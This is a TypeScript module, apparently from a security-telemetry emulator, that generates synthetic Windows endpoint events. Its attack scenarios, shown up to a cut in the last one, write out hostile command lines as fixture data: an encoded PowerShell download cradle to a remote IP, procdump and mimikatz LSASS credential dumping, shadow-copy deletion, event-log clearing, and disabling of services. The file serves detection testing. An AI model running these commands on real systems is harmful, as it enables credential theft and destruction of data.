// What the generated device events are made of: binaries (stable hashes per file name, so SHA1 joins work across
// tables), background activity, and attack scenarios modelled on the detections the alert templates describe
// (LSASS dumps, encoded PowerShell, backup deletion, PsExec, discovery bursts, C2 domains, ASR, AV, USB).
import { createHash } from "node:crypto";

export type EventTable =
  | "DeviceProcessEvents"
  | "DeviceNetworkEvents"
  | "DeviceFileEvents"
  | "DeviceEvents"
  | "DeviceLogonEvents"
  | "DeviceRegistryEvents";

export const EVENT_TABLES: EventTable[] = [
  "DeviceProcessEvents",
  "DeviceNetworkEvents",
  "DeviceFileEvents",
  "DeviceEvents",
  "DeviceLogonEvents",
  "DeviceRegistryEvents",
];

export interface Binary {
  name: string;
  folder: string;
  company: string;
  product: string;
  description: string;
  sha1: string;
  sha256: string;
  md5: string;
  size: number;
}

const SYS32 = "C:\\Windows\\System32";
const MS = "Microsoft Corporation";
const WINDOWS = "Microsoft® Windows® Operating System";

const BINARY_SPECS: [string, string, string?, string?, string?][] = [
  ["explorer.exe", "C:\\Windows", MS, WINDOWS, "Windows Explorer"],
  ["svchost.exe", SYS32, MS, WINDOWS, "Host Process for Windows Services"],
  ["services.exe", SYS32, MS, WINDOWS, "Services and Controller app"],
  ["wininit.exe", SYS32],
  ["userinit.exe", SYS32],
  ["winlogon.exe", SYS32],
  ["lsass.exe", SYS32, MS, WINDOWS, "Local Security Authority Process"],
  ["cmd.exe", SYS32, MS, WINDOWS, "Windows Command Processor"],
  ["powershell.exe", `${SYS32}\\WindowsPowerShell\\v1.0`, MS, WINDOWS, "Windows PowerShell"],
  ["conhost.exe", SYS32],
  ["taskhostw.exe", SYS32],
  ["SearchIndexer.exe", SYS32],
  ["RuntimeBroker.exe", SYS32],
  ["backgroundTaskHost.exe", SYS32],
  ["msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application", MS, "Microsoft Edge", "Microsoft Edge"],
  ["chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application", "Google LLC", "Google Chrome", "Google Chrome"],
  ["OUTLOOK.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16", MS, "Microsoft Office", "Microsoft Outlook"],
  ["WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16", MS, "Microsoft Office", "Microsoft Word"],
  ["EXCEL.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16", MS, "Microsoft Office", "Microsoft Excel"],
  [
    "Teams.exe",
    "C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current",
    MS,
    "Microsoft Teams",
    "Microsoft Teams",
  ],
  ["OneDrive.exe", "C:\\Program Files\\Microsoft OneDrive", MS, "Microsoft OneDrive", "Microsoft OneDrive"],
  [
    "MsMpEng.exe",
    "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0",
    MS,
    "Microsoft Malware Protection",
    "Antimalware Service Executable",
  ],
  [
    "MsSense.exe",
    "C:\\Program Files\\Windows Defender Advanced Threat Protection",
    MS,
    WINDOWS,
    "Windows Defender Advanced Threat Protection Service Executable",
  ],
  [
    "SenseIR.exe",
    "C:\\Program Files\\Windows Defender Advanced Threat Protection",
    MS,
    WINDOWS,
    "Windows Defender Advanced Threat Protection Automated Investigation",
  ],
  [
    "AgentExecutor.exe",
    "C:\\Program Files (x86)\\Microsoft Intune Management Extension",
    MS,
    "Microsoft Intune",
    "Intune Management Extension Agent Executor",
  ],
  [
    "Microsoft.Management.Services.IntuneWindowsAgent.exe",
    "C:\\Program Files (x86)\\Microsoft Intune Management Extension",
    MS,
    "Microsoft Intune",
    "Intune Management Extension",
  ],
  ["gpupdate.exe", SYS32],
  ["schtasks.exe", SYS32],
  ["sc.exe", SYS32],
  ["net.exe", SYS32],
  ["net1.exe", SYS32],
  ["whoami.exe", SYS32],
  ["ipconfig.exe", SYS32],
  ["systeminfo.exe", SYS32],
  ["nltest.exe", SYS32],
  ["tasklist.exe", SYS32],
  ["hostname.exe", SYS32],
  ["quser.exe", SYS32],
  ["arp.exe", SYS32],
  ["route.exe", SYS32],
  ["netstat.exe", SYS32],
  ["vssadmin.exe", SYS32, MS, WINDOWS, "Command Line Interface for Microsoft® Volume Shadow Copy Service"],
  ["wbadmin.exe", SYS32],
  ["bcdedit.exe", SYS32],
  ["wevtutil.exe", SYS32],
  ["wmic.exe", `${SYS32}\\wbem`],
  ["WmiPrvSE.exe", `${SYS32}\\wbem`],
  ["rundll32.exe", SYS32],
  ["regsvr32.exe", SYS32],
  ["mshta.exe", SYS32],
  ["certutil.exe", SYS32],
  ["reg.exe", SYS32],
  ["msiexec.exe", SYS32],
  [
    "procdump64.exe",
    "C:\\Users\\Public\\Downloads",
    "Sysinternals - www.sysinternals.com",
    "ProcDump",
    "Sysinternals process dump utility",
  ],
  [
    "procdump.exe",
    "C:\\Users\\Public\\Downloads",
    "Sysinternals - www.sysinternals.com",
    "ProcDump",
    "Sysinternals process dump utility",
  ],
  [
    "PsExec.exe",
    "C:\\Tools",
    "Sysinternals - www.sysinternals.com",
    "Sysinternals PsExec",
    "Execute processes remotely",
  ],
  ["PSEXESVC.exe", "C:\\Windows", "Sysinternals - www.sysinternals.com", "Sysinternals PsExec", "PsExec Service"],
  ["mimikatz.exe", "C:\\Users\\Public", "gentilkiwi (Benjamin DELPY)", "mimikatz", "mimikatz for Windows"],
  ["tor.exe", "C:\\Users\\Public\\AppData\\Local\\Tor Browser\\Browser\\TorBrowser\\Tor", "", "Tor", "Tor"],
  [
    "meek-client.exe",
    "C:\\Users\\Public\\AppData\\Local\\Tor Browser\\Browser\\TorBrowser\\Tor\\PluggableTransports",
    "",
    "meek",
    "meek-client",
  ],
  ["invoice_0423.exe", "C:\\Users\\Public\\Downloads", "", "", ""],
  ["updater.dll", "C:\\ProgramData\\Intel", "", "", ""],
  [
    "sqlservr.exe",
    "C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn",
    MS,
    "Microsoft SQL Server",
    "SQL Server Windows NT - 64 Bit",
  ],
  ["w3wp.exe", `${SYS32}\\inetsrv`, MS, WINDOWS, "IIS Worker Process"],
  ["ntoskrnl.exe", SYS32, MS, WINDOWS, "NT Kernel & System"],
  ["System", "", "", "", ""],
  ["smartscreen.exe", SYS32],
  ["notepad.exe", SYS32],
  ["7z.exe", "C:\\Program Files\\7-Zip", "Igor Pavlov", "7-Zip", "7-Zip Console"],
];

const digest = (algo: string, s: string) => createHash(algo).update(`emu-bin:${s}`).digest("hex");

export const BINARIES = new Map<string, Binary>(
  BINARY_SPECS.map(([name, folder, company, product, description]) => [
    name.toLowerCase(),
    {
      name,
      folder,
      company: company ?? MS,
      product: product ?? WINDOWS,
      description: description ?? name.replace(/\.exe$/i, ""),
      sha1: name === "System" ? "" : digest("sha1", name.toLowerCase()),
      sha256: name === "System" ? "" : digest("sha256", name.toLowerCase()),
      md5: name === "System" ? "" : digest("md5", name.toLowerCase()),
      size: name === "System" ? 0 : 20_000 + (parseInt(digest("md5", name).slice(0, 6), 16) % 2_000_000),
    },
  ]),
);

export function binary(name: string): Binary {
  const b = BINARIES.get(name.toLowerCase());
  if (!b) throw new Error(`unknown binary ${name}`);
  return b;
}

/** Columns a template sets; `{host}`, `{user}`, `{n}` (0–99), `{ip}` (a remote IP) are filled per event. */
export type Fields = Record<string, string | number | boolean | null>;

export interface EventTemplate {
  table: EventTable;
  actionType: string;
  /** The event's subject process (process events) or file; a binary name. */
  file?: string;
  cmd?: string;
  /** InitiatingProcess*: the process that did it, its command line and its parent. */
  parent: string;
  parentCmd?: string;
  grandparent?: string;
  /** Runs as SYSTEM instead of the device's user. */
  system?: boolean;
  fields?: Fields;
  /** Relative share in background noise; 0 = only planted by scenarios. */
  weight: number;
}

const t = (
  table: EventTable,
  actionType: string,
  parent: string,
  weight: number,
  rest: Partial<EventTemplate> = {},
): EventTemplate => ({
  table,
  actionType,
  parent,
  weight,
  ...rest,
});

const P = "DeviceProcessEvents" as const;
const N = "DeviceNetworkEvents" as const;
const FE = "DeviceFileEvents" as const;
const E = "DeviceEvents" as const;
const L = "DeviceLogonEvents" as const;
const R = "DeviceRegistryEvents" as const;

const INTUNE_PS =
  'powershell.exe -NoProfile -executionPolicy bypass -file "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\{n}_Remediate-Intune.ps1"';
const ENCODED =
  "powershell.exe -NoP -NonI -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA4ADUALgAyADIANQAuADEANwAuADIAMwAvAGEAJwApAA==";

/** Background activity: what every Windows device does all day. */
export const NOISE: EventTemplate[] = [
  t(P, "ProcessCreated", "svchost.exe", 10, {
    file: "taskhostw.exe",
    cmd: "taskhostw.exe",
    system: true,
    grandparent: "services.exe",
  }),
  t(P, "ProcessCreated", "explorer.exe", 8, {
    file: "msedge.exe",
    cmd: '"msedge.exe" --single-argument https://contoso.sharepoint.com/',
    grandparent: "userinit.exe",
  }),
  t(P, "ProcessCreated", "explorer.exe", 6, {
    file: "OUTLOOK.EXE",
    cmd: '"OUTLOOK.EXE" ',
    grandparent: "userinit.exe",
  }),
  t(P, "ProcessCreated", "explorer.exe", 4, {
    file: "WINWORD.EXE",
    cmd: '"WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\Report-{n}.docx"',
    grandparent: "userinit.exe",
  }),
  t(P, "ProcessCreated", "explorer.exe", 3, {
    file: "EXCEL.EXE",
    cmd: '"EXCEL.EXE" "C:\\Users\\{user}\\Documents\\Budget-{n}.xlsx"',
    grandparent: "userinit.exe",
  }),
  t(P, "ProcessCreated", "explorer.exe", 4, {
    file: "Teams.exe",
    cmd: "Teams.exe --process-start-reason=AutoStart",
    grandparent: "userinit.exe",
  }),
  t(P, "ProcessCreated", "svchost.exe", 6, {
    file: "SearchIndexer.exe",
    cmd: "SearchIndexer.exe /Embedding",
    system: true,
    grandparent: "services.exe",
  }),
  t(P, "ProcessCreated", "services.exe", 5, {
    file: "svchost.exe",
    cmd: "svchost.exe -k netsvcs -p -s Schedule",
    system: true,
    grandparent: "wininit.exe",
  }),
  t(P, "ProcessCreated", "svchost.exe", 3, {
    file: "gpupdate.exe",
    cmd: "gpupdate.exe /target:computer",
    system: true,
    grandparent: "services.exe",
  }),
  t(P, "ProcessCreated", "Microsoft.Management.Services.IntuneWindowsAgent.exe", 4, {
    file: "AgentExecutor.exe",
    cmd: '"AgentExecutor.exe" -powershell "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\{n}_Detect.ps1"',
    system: true,
    grandparent: "services.exe",
  }),
  t(P, "ProcessCreated", "AgentExecutor.exe", 4, {
    file: "powershell.exe",
    cmd: INTUNE_PS,
    system: true,
    grandparent: "Microsoft.Management.Services.IntuneWindowsAgent.exe",
  }),
  t(P, "ProcessCreated", "explorer.exe", 2, {
    file: "cmd.exe",
    cmd: 'cmd.exe /c "dir C:\\Users\\{user}\\Documents"',
    grandparent: "userinit.exe",
  }),
  t(P, "ProcessCreated", "cmd.exe", 2, {
    file: "conhost.exe",
    cmd: "conhost.exe 0xffffffff -ForceV1",
    grandparent: "explorer.exe",
  }),
  t(P, "ProcessCreated", "MsSense.exe", 2, {
    file: "SenseIR.exe",
    cmd: "SenseIR.exe OnlineSenseIR",
    system: true,
    grandparent: "services.exe",
  }),
  t(P, "ProcessCreated", "svchost.exe", 2, {
    file: "msiexec.exe",
    cmd: "msiexec.exe /V",
    system: true,
    grandparent: "services.exe",
  }),
  t(P, "ProcessCreated", "explorer.exe", 1, {
    file: "notepad.exe",
    cmd: '"notepad.exe" C:\\Users\\{user}\\Desktop\\notes.txt',
    grandparent: "userinit.exe",
  }),
  t(P, "ProcessCreated", "cmd.exe", 1, { file: "ipconfig.exe", cmd: "ipconfig /all", grandparent: "explorer.exe" }),
  t(N, "ConnectionSuccess", "msedge.exe", 10, {
    fields: {
      RemoteUrl: "contoso.sharepoint.com",
      RemoteIP: "13.107.136.9",
      RemotePort: 443,
      Protocol: "Tcp",
      RemoteIPType: "Public",
    },
  }),
  t(N, "ConnectionSuccess", "OUTLOOK.EXE", 6, {
    fields: {
      RemoteUrl: "outlook.office365.com",
      RemoteIP: "52.96.165.18",
      RemotePort: 443,
      Protocol: "Tcp",
      RemoteIPType: "Public",
    },
  }),
  t(N, "ConnectionSuccess", "Teams.exe", 6, {
    fields: {
      RemoteUrl: "teams.microsoft.com",
      RemoteIP: "52.113.194.132",
      RemotePort: 443,
      Protocol: "Tcp",
      RemoteIPType: "Public",
    },
  }),
  t(N, "ConnectionSuccess", "MsSense.exe", 4, {
    system: true,
    fields: {
      RemoteUrl: "winatp-gw-weu.microsoft.com",
      RemoteIP: "20.50.201.200",
      RemotePort: 443,
      Protocol: "Tcp",
      RemoteIPType: "Public",
    },
  }),
  t(N, "ConnectionSuccess", "svchost.exe", 4, {
    system: true,
    fields: { RemoteUrl: "", RemoteIP: "10.0.0.10", RemotePort: 53, Protocol: "Udp", RemoteIPType: "Private" },
  }),
  t(N, "InboundConnectionAccepted", "System", 2, {
    system: true,
    fields: { RemoteIP: "{lan}", RemotePort: 49700, LocalPort: 445, Protocol: "Tcp", RemoteIPType: "Private" },
  }),
  t(N, "ConnectionFailed", "chrome.exe", 1, {
    fields: {
      RemoteUrl: "ads.example-tracker.net",
      RemoteIP: "203.0.113.{n}",
      RemotePort: 443,
      Protocol: "Tcp",
      RemoteIPType: "Public",
    },
  }),
  t(N, "DnsConnectionInspected", "svchost.exe", 1, {
    system: true,
    fields: {
      RemoteIP: "10.0.0.10",
      RemotePort: 53,
      Protocol: "Udp",
      RemoteIPType: "Private",
      AdditionalFields: '{"direction":"Out","query":"login.microsoftonline.com"}',
    },
  }),
  t(FE, "FileCreated", "WINWORD.EXE", 4, {
    file: "Report-{n}.docx",
    fields: { FolderPath: "C:\\Users\\{user}\\Documents\\Report-{n}.docx" },
  }),
  t(FE, "FileModified", "EXCEL.EXE", 3, {
    file: "Budget-{n}.xlsx",
    fields: { FolderPath: "C:\\Users\\{user}\\Documents\\Budget-{n}.xlsx" },
  }),
  t(FE, "FileCreated", "msedge.exe", 3, {
    file: "setup-{n}.msi",
    fields: {
      FolderPath: "C:\\Users\\{user}\\Downloads\\setup-{n}.msi",
      FileOriginUrl: "https://download.contoso.example/setup-{n}.msi",
    },
  }),
  t(FE, "FileCreated", "OneDrive.exe", 2, {
    file: "Photo-{n}.jpg",
    fields: { FolderPath: "C:\\Users\\{user}\\OneDrive - Contoso\\Pictures\\Photo-{n}.jpg" },
  }),
  t(FE, "FileDeleted", "explorer.exe", 1, {
    file: "old-{n}.tmp",
    fields: { FolderPath: "C:\\Users\\{user}\\AppData\\Local\\Temp\\old-{n}.tmp" },
  }),
  t(E, "ProcessCreatedUsingWmiQuery", "WmiPrvSE.exe", 1, { system: true }),
  t(E, "ScriptContent", "powershell.exe", 1, {
    system: true,
    fields: { AdditionalFields: '{"ScriptContent":"Get-Service | Where-Object Status -eq Running"}' },
  }),
  t(E, "FirewallInboundConnectionBlocked", "System", 1, {
    system: true,
    fields: { RemoteIP: "{lan}", LocalPort: 135 },
  }),
  t(E, "SmartScreenUrlWarning", "msedge.exe", 0.3, {
    fields: { RemoteUrl: "http://contoso-payroll.example.tk/login" },
  }),
  t(E, "DeviceBootAttestationInfo", "System", 0.3, {
    system: true,
    fields: {
      AdditionalFields:
        '{"SystemGuardSecurityLevel":"Enabled","ReportValidity":true,"BootDebugging":false,"TestSigning":false}',
    },
  }),
  t(E, "AsrOfficeChildProcessAudited", "WINWORD.EXE", 0.2, {
    file: "cmd.exe",
    cmd: "cmd.exe /c echo audit",
    fields: { FolderPath: "C:\\Windows\\System32\\cmd.exe" },
  }),
  t(L, "LogonSuccess", "winlogon.exe", 3, {
    fields: { LogonType: "Interactive", Protocol: "Negotiate", IsLocalAdmin: false },
  }),
  t(L, "LogonSuccess", "lsass.exe", 2, {
    system: true,
    fields: {
      LogonType: "Network",
      Protocol: "Kerberos",
      IsLocalAdmin: false,
      RemoteIP: "{lan}",
      RemoteIPType: "Private",
    },
  }),
  t(L, "LogonFailed", "lsass.exe", 0.5, {
    system: true,
    fields: {
      LogonType: "Network",
      Protocol: "NTLM",
      FailureReason: "InvalidUserNameOrPassword",
      RemoteIP: "{lan}",
      RemoteIPType: "Private",
    },
  }),
  t(L, "LogonSuccess", "services.exe", 1, {
    system: true,
    fields: { LogonType: "Service", Protocol: "Negotiate", IsLocalAdmin: true },
  }),
  t(R, "RegistryValueSet", "svchost.exe", 3, {
    system: true,
    fields: {
      RegistryKey: "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update",
      RegistryValueName: "LastOnlineScanTimeForAppCategory",
      RegistryValueType: "String",
      RegistryValueData: "{n}",
    },
  }),
  t(R, "RegistryValueSet", "explorer.exe", 2, {
    fields: {
      RegistryKey: "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs",
      RegistryValueName: "MRUListEx",
      RegistryValueType: "Binary",
      RegistryValueData: "",
    },
  }),
  t(R, "RegistryValueSet", "services.exe", 1, {
    system: true,
    fields: {
      RegistryKey: "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\{svc}",
      RegistryValueName: "Start",
      RegistryValueType: "Dword",
      RegistryValueData: "2",
    },
  }),
  t(R, "RegistryKeyCreated", "msiexec.exe", 1, {
    system: true,
    fields: { RegistryKey: "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\{n}" },
  }),
];

/** Attack scenarios: each a burst of events planted on a device at a time (alert times, and fixed recent ones). */
export interface Scenario {
  name: string;
  /** Alert template titles that plant this scenario on the alert's device. */
  alertTitles: string[];
  /** [template, seconds after the scenario start]. */
  events: [EventTemplate, number][];
}

const EVENT_LOGS = [
  "Security",
  "System",
  "Application",
  "Setup",
  "Windows PowerShell",
  "Microsoft-Windows-Sysmon/Operational",
  "Microsoft-Windows-PowerShell/Operational",
  "Microsoft-Windows-TaskScheduler/Operational",
  "Microsoft-Windows-Windows Defender/Operational",
  "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
  "Microsoft-Windows-WMI-Activity/Operational",
  "Microsoft-Windows-Bits-Client/Operational",
];
const STOPPED_SERVICES = [
  "MSSQLSERVER",
  "SQLWriter",
  "VSS",
  "wbengine",
  "SQLSERVERAGENT",
  "MSExchangeIS",
  "BackupExecJobEngine",
  "veeam",
  "sophos",
  "MsDtsServer",
  "SstpSvc",
  "WinDefend",
];

const repeat = (n: number, tmpl: EventTemplate, everySec: number, start = 0): [EventTemplate, number][] =>
  Array.from({ length: n }, (_, i) => [tmpl, start + i * everySec] as [EventTemplate, number]);

export const SCENARIOS: Scenario[] = [
  {
    name: "lsass-dump",
    alertTitles: [
      "Suspicious access to LSASS service",
      "Possible credential dumping via LSASS memory (Mimikatz)",
      "ASR rule blocked credential stealing from LSASS",
    ],
    events: [
      [
        t(P, "ProcessCreated", "cmd.exe", 0, {
          file: "procdump64.exe",
          cmd: "procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\lsass.dmp",
          grandparent: "explorer.exe",
        }),
        0,
      ],
      [
        t(FE, "FileCreated", "procdump64.exe", 0, {
          file: "lsass.dmp",
          fields: { FolderPath: "C:\\Users\\Public\\lsass.dmp" },
        }),
        4,
      ],
      [
        t(E, "AsrLsassCredentialTheftBlocked", "procdump64.exe", 0, {
          file: "lsass.exe",
          fields: { FolderPath: "C:\\Windows\\System32\\lsass.exe" },
        }),
        3,
      ],
      [
        t(E, "OpenProcessApiCall", "mimikatz.exe", 0, {
          file: "lsass.exe",
          fields: { FolderPath: "C:\\Windows\\System32\\lsass.exe", AdditionalFields: '{"DesiredAccess":5136}' },
        }),
        30,
      ],
      [
        t(P, "ProcessCreated", "cmd.exe", 0, {
          file: "mimikatz.exe",
          cmd: 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
          grandparent: "explorer.exe",
        }),
        29,
      ],
    ],
  },
  {
    name: "encoded-powershell",
    alertTitles: ["Suspicious PowerShell command line", "Office application spawned a suspicious child process"],
    events: [
      [
        t(P, "ProcessCreated", "WINWORD.EXE", 0, { file: "powershell.exe", cmd: ENCODED, grandparent: "explorer.exe" }),
        0,
      ],
      [
        t(N, "ConnectionSuccess", "powershell.exe", 0, {
          fields: {
            RemoteIP: "185.225.17.23",
            RemotePort: 80,
            RemoteUrl: "185.225.17.23",
            Protocol: "Tcp",
            RemoteIPType: "Public",
          },
        }),
        2,
      ],
      [
        t(E, "AsrOfficeChildProcessBlocked", "WINWORD.EXE", 0, {
          file: "powershell.exe",
          cmd: ENCODED,
          fields: { FolderPath: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" },
        }),
        1,
      ],
      [
        t(E, "PowerShellCommand", "powershell.exe", 0, {
          fields: { AdditionalFields: '{"Command":"Invoke-Expression"}' },
        }),
        3,
      ],
    ],
  },
  {
    name: "backup-deletion",
    alertTitles: [
      "File backups were deleted",
      "Ransomware behavior detected in the file system",
      "Potential human-operated malicious activity",
    ],
    events: [
      [
        t(P, "ProcessCreated", "cmd.exe", 0, {
          file: "vssadmin.exe",
          cmd: "vssadmin.exe delete shadows /all /quiet",
          grandparent: "invoice_0423.exe",
        }),
        0,
      ],
      [
        t(P, "ProcessCreated", "cmd.exe", 0, {
          file: "wbadmin.exe",
          cmd: "wbadmin delete catalog -quiet",
          grandparent: "invoice_0423.exe",
        }),
        5,
      ],
      [
        t(P, "ProcessCreated", "cmd.exe", 0, {
          file: "bcdedit.exe",
          cmd: "bcdedit /set {default} recoveryenabled no",
          grandparent: "invoice_0423.exe",
        }),
        8,
      ],
      // Distinct command lines within minutes, as the "clear event logs" and "net stop" hunting queries count them.
      ...EVENT_LOGS.map(
        (log, i) =>
          [
            t(P, "ProcessCreated", "cmd.exe", 0, {
              file: "wevtutil.exe",
              cmd: `wevtutil.exe cl "${log}"`,
              grandparent: "invoice_0423.exe",
            }),
            20 + i * 5,
          ] as [EventTemplate, number],
      ),
      ...STOPPED_SERVICES.map(
        (svc, i) =>
          [
            t(P, "ProcessCreated", "cmd.exe", 0, {
              file: "net.exe",
              cmd: `net stop "${svc}" /y`,
              grandparent: "invoice_0423.exe",
            }),
            100 + i * 4,
          ] as [EventTemplate, number],
      ),
      [
        t(P, "ProcessCreated", "cmd.exe", 0, {
          file: "wmic.exe",
          cmd: "wmic.exe shadowcopy delete /nointeractive",
          grandparent: "invoice_0423.exe",
        }),
        12,
      ],
      [
        t(P, "ProcessCreated", "cmd.exe", 0, {
          file: "fsutil.exe",
          cmd: "fsutil.exe usn deletejournal /D C:",
          grandparent: "invoice_0423.exe",
        }),
        14,
      ],
      ...STOPPED_SERVICES.map(
        (svc, i) =>
          [
            t(P, "ProcessCreated", "cmd.exe", 0, {
              file: "taskkill.exe",
              cmd: `taskkill.exe /F /IM ${svc.toLowerCase()}.exe`,
              grandparent: "invoice_0423.exe",
            }),
            60 + i * 3,
          ] as [EventTemplate, number],
      ),
      ...STOPPED_SERVICES.map(
        (svc, i) =>
          [
            t(P, "ProcessCreated", "cmd.exe", 0, {
              file: "sc.exe",
              cmd: `sc.exe config ${svc} start= disabled`,
              grandparent: "invoice_0423.exe",
            }),
            150 + i * 3,
          ] as [EventTemplate, number],
      ),
      ...repeat(
        6,
        t(FE, "FileRenamed", "invoice_0423.exe", 0, {
          file: "Budget-{n}.xlsx.lockbit",
          fields: {
            FolderPath: "C:\\Users\\{user}\\Documents\\Budget-{n}.xlsx.lockbit",
            PreviousFileName: "Budget-{n}.xlsx",
          },
        }),
        3,
        300,
      ),
      [
        t(E, "AntivirusDetection", "MsMpEng.exe", 0, {
          file: "invoice_0423.exe",
          system: true,
          fields: {
            FolderPath: "C:\\Users\\Public\\Downloads\\invoice_0423.exe",
            AdditionalFields: '{"ThreatName":"Ransom:Win32/LockBit.A","WasRemediated":true,"Action":"quarantine"}',
          },
        }),
        400,
      ],
    ],
  },
  {
    name: "psexec-lateral",
    alertTitles: ["Suspicious remote service creation", "Potential human-operated malicious activity"],
    events: [
      [
        t(P, "ProcessCreated", "cmd.exe", 0, {
          file: "PsExec.exe",
          cmd: "PsExec.exe \\\\{peer} -accepteula -s cmd.exe /c whoami",
          grandparent: "explorer.exe",
        }),
        0,
      ],
      [
        t(N, "ConnectionSuccess", "PsExec.exe", 0, {
          fields: { RemoteIP: "{lan}", RemotePort: 445, Protocol: "Tcp", RemoteIPType: "Private", RemoteUrl: "" },
        }),
        1,
      ],
      [
        t(FE, "FileCreated", "System", 0, {
          file: "PSEXESVC.exe",
          system: true,
          fields: {
            FolderPath: "C:\\Windows\\PSEXESVC.exe",
            ShareName: "ADMIN$",
            RequestProtocol: "SMB",
            RequestSourceIP: "{lan}",
            RequestAccountName: "{user}",
            RequestAccountDomain: "CONTOSO",
          },
        }),
        2,
      ],
      [
        t(L, "LogonSuccess", "lsass.exe", 0, {
          system: true,
          fields: {
            LogonType: "Network",
            Protocol: "NTLM",
            IsLocalAdmin: true,
            RemoteIP: "{lan}",
            RemoteIPType: "Private",
            RemoteDeviceName: "{peer}",
          },
        }),
        2,
      ],
      [
        t(P, "ProcessCreated", "services.exe", 0, {
          file: "PSEXESVC.exe",
          cmd: "C:\\Windows\\PSEXESVC.exe",
          system: true,
          grandparent: "wininit.exe",
        }),
        3,
      ],
      [
        t(E, "ServiceInstalled", "services.exe", 0, {
          system: true,
          fields: { AdditionalFields: '{"ServiceName":"PSEXESVC","ServiceStartType":3,"ServiceType":16}' },
        }),
        3,
      ],
      ...["agent.exe", "collector.exe", "sync.exe", "svc-helper.exe", "update.exe"].map(
        (file, i) =>
          [
            t(FE, "FileCreated", "PsExec.exe", 0, {
              file,
              parentCmd: `PsExec.exe \\\\{peer} -accepteula -c -f C:\\Tools\\${file}`,
              fields: { FolderPath: `\\\\{peer}\\ADMIN$\\${file}` },
            }),
            4 + i,
          ] as [EventTemplate, number],
      ),
      ...[
        "cmd.exe /c copy \\\\{peer}\\C$\\Users\\Public\\agent.exe C:\\Windows\\Temp\\agent.exe",
        "cmd.exe /c C:\\Windows\\Temp\\agent.exe -install",
        "cmd.exe /c net user",
      ].map(
        (cmd, i) =>
          [
            t(P, "ProcessCreated", "PSEXESVC.exe", 0, {
              file: "cmd.exe",
              cmd,
              system: true,
              grandparent: "services.exe",
            }),
            10 + i * 20,
          ] as [EventTemplate, number],
      ),
    ],
  },
  {
    name: "recon-burst",
    alertTitles: ["Anomalous account lookups", "Suspicious sequence of exploration activities"],
    events: [
      ["whoami /all", "whoami.exe"],
      ["net localgroup administrators", "net.exe"],
      ['net group "domain admins" /domain', "net.exe"],
      ["ipconfig /all", "ipconfig.exe"],
      ["systeminfo", "systeminfo.exe"],
      ["nltest /domain_trusts", "nltest.exe"],
      ["tasklist /v", "tasklist.exe"],
      ["quser", "quser.exe"],
      ["arp -a", "arp.exe"],
      ["netstat -ano", "netstat.exe"],
    ].map(
      ([cmd, file], i) =>
        [t(P, "ProcessCreated", "cmd.exe", 0, { file, cmd, grandparent: "powershell.exe" }), i * 40] as [
          EventTemplate,
          number,
        ],
    ),
  },
  {
    name: "c2-domains",
    alertTitles: ["Connection to a custom network indicator", "Suspicious URL clicked", "Reverse shell detected"],
    events: [
      ...Array.from(
        { length: 6 },
        (_, i) =>
          [
            t(N, "ConnectionSuccess", "rundll32.exe", 0, {
              fields: {
                RemoteUrl: `cdn${i}.update-check.tk`,
                RemoteIP: `45.153.160.${10 + i}`,
                RemotePort: 443,
                Protocol: "Tcp",
                RemoteIPType: "Public",
              },
            }),
            i * 60,
          ] as [EventTemplate, number],
      ),
      [
        t(P, "ProcessCreated", "explorer.exe", 0, {
          file: "tor.exe",
          cmd: "tor.exe --defaults-torrc torrc-defaults",
          grandparent: "userinit.exe",
        }),
        10,
      ],
      [
        t(N, "ConnectionSuccess", "meek-client.exe", 0, {
          fields: {
            RemoteUrl: "ajax.aspnetcdn.com",
            RemoteIP: "152.199.19.160",
            RemotePort: 443,
            Protocol: "Tcp",
            RemoteIPType: "Public",
          },
        }),
        20,
      ],
      [
        t(N, "ConnectionSuccess", "tor.exe", 0, {
          fields: {
            RemoteIP: "185.220.101.4",
            RemotePort: 9001,
            Protocol: "Tcp",
            RemoteIPType: "Public",
            RemoteUrl: "",
          },
        }),
        25,
      ],
    ],
  },
  {
    name: "malware-av",
    alertTitles: [
      "'Wacatac' malware was detected",
      "Potentially unwanted application detected",
      "Suspicious process injection observed",
    ],
    events: [
      [
        t(FE, "FileCreated", "msedge.exe", 0, {
          file: "invoice_0423.exe",
          fields: {
            FolderPath: "C:\\Users\\Public\\Downloads\\invoice_0423.exe",
            FileOriginUrl: "http://files-invoice.example.tk/invoice_0423.exe",
          },
        }),
        0,
      ],
      [
        t(E, "AntivirusDetection", "MsMpEng.exe", 0, {
          file: "invoice_0423.exe",
          system: true,
          fields: {
            FolderPath: "C:\\Users\\Public\\Downloads\\invoice_0423.exe",
            AdditionalFields: '{"ThreatName":"Trojan:Win32/Wacatac.B!ml","WasRemediated":true,"Action":"quarantine"}',
          },
        }),
        2,
      ],
      [
        t(E, "UsbDriveMounted", "System", 0, {
          system: true,
          fields: {
            AdditionalFields:
              '{"DriveLetter":"E:","ProductName":"SanDisk Ultra","SerialNumber":"4C530001{n}","Manufacturer":"SanDisk","Volume":"\\\\?\\Volume{n}"}',
          },
        }),
